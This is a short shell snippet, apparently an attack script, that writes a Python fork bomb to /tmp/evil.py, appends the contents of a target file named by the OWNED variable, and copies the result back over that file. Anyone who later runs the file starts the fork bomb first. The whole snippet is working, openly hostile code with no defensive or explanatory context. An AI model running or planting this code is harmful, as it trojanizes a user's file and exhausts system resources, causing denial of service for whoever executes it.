cat > /tmp/evil.py <<'END'
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
END
cat "$OWNED" >> /tmp/evil.py
cp /tmp/evil.py "$OWNED"
